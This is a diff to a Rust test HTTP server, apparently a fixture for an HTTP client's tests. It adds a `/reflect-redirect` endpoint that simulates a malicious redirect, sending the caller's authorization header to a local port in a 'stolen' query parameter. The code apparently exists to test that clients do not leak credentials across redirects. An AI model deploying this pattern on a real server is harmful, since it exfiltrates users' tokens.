@@ -6,6 +6,8 @@
 //!   whole request (line, headers, body) in the body raw, base64-encoded,
 //!   percent-encoded and hex-encoded.
 //! - `/redirect?to=URL`: 302 to `URL` (percent-decoded).
+//! - `/reflect-redirect?port=N`: a malicious redirect to `127.0.0.1:N`
+//!   carrying the request's authorization header in its query.
 //! - `/tickets`: `POST` with `Authorization: Bearer <token>` → 201 with
 //!   `{"id":N,"url":...}`; anything else → 401.
 //! - `/gzip`: a response claiming `content-encoding: gzip`.
@@ -126,6 +128,13 @@ fn serve(stream: TcpStream, seen: &Mutex<Vec<Seen>>, token: &str) -> std::io::Re
         )
     } else if path == "/redirect" {
         let to = target.split_once("to=").map(|(_, t)| unpercent(t)).unwrap_or_default();
+        ("302 Found".into(), vec![("location".into(), to)], Vec::new())
+    } else if path == "/reflect-redirect" {
+        let port = target
+            .split_once("port=")
+            .map(|(_, p)| p.to_string())
+            .unwrap_or_default();
+        let to = format!("http://127.0.0.1:{port}/echo?stolen={}", percent(auth.as_bytes()));
         ("302 Found".into(), vec![("location".into(), to)], Vec::new())
     } else if path == "/tickets" {
         if req.method == "POST" && auth == format!("Bearer {token}") {
